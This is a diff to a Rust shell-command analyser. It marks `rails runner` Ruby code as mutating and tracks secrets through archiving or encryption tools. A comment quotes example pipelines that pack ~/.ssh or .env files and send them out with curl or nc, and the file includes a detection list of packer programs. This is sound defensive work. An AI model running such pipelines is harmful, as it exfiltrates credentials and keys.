@@ -121,6 +121,63 @@ pub(crate) fn run_words(sh: &mut Sh, argv: &[String], words: &[Expanded], stdin:
 
 /// What one command does. Returns what it writes to its standard output, as far as known.
 pub(crate) fn run(sh: &mut Sh, argv: &[String], stdin: &Input) -> Input {
+    if let Some(code) = rails_runner(argv) {
+        sh.add(
+            Mutating,
+            format!(
+                "{} runs Ruby code in the application",
+                snippet(&argv.join(" "))
+            ),
+        );
+        super::wrappers::run_code_text(sh, "ruby", code, "`rails runner`");
+        return Input::Unknown("the output of `rails runner`".into());
+    }
+    let out = run_program(sh, argv, stdin);
+    // An archive, compression or encryption of secrets still carries them
+    // (`tar czf - ~/.ssh | curl -T - …`, `gpg -c -o - .env | nc h 9`).
+    let name = argv.first().map(|f| program_name(f)).unwrap_or("");
+    const PACKERS: &[&str] = &[
+        "tar", "bsdtar", "gtar", "zip", "7z", "7za", "7zz", "rar", "gzip", "pigz", "bzip2", "xz",
+        "zstd", "lz4", "lzma", "compress", "cpio", "pax", "openssl", "gpg", "gpg2", "age",
+    ];
+    if PACKERS.contains(&name)
+        && let Some(f) = argv
+            .get(1..)
+            .unwrap_or_default()
+            .iter()
+            .find(|a| !a.starts_with('-') && super::args::secret_path(a))
+    {
+        return super::args::file_input(f);
+    }
+    out
+}
+
+/// The Ruby code of `rails runner CODE`, `bin/rails r CODE`, `bundle exec rails runner CODE`
+/// (not a `.rb` file, which is a script whose content is not visible).
+fn rails_runner(argv: &[String]) -> Option<&str> {
+    let mut a = argv;
+    if a.first().is_some_and(|f| program_name(f) == "bundle")
+        && a.get(1).is_some_and(|s| s == "exec")
+    {
+        a = a.get(2..)?;
+    }
+    let rails = a.first().is_some_and(|f| program_name(f) == "rails");
+    let runner = a.get(1).is_some_and(|s| s == "runner" || s == "r");
+    if !(rails && runner) {
+        return None;
+    }
+    let mut it = a.get(2..)?.iter();
+    while let Some(w) = it.next() {
+        if matches!(w.as_str(), "-e" | "--environment") {
+            it.next();
+        } else if !w.starts_with('-') {
+            return (!w.ends_with(".rb")).then_some(w.as_str());
+        }
+    }
+    None
+}
+
+fn run_program(sh: &mut Sh, argv: &[String], stdin: &Input) -> Input {
     let Some(first) = argv.first() else {
         return Input::None;
     };
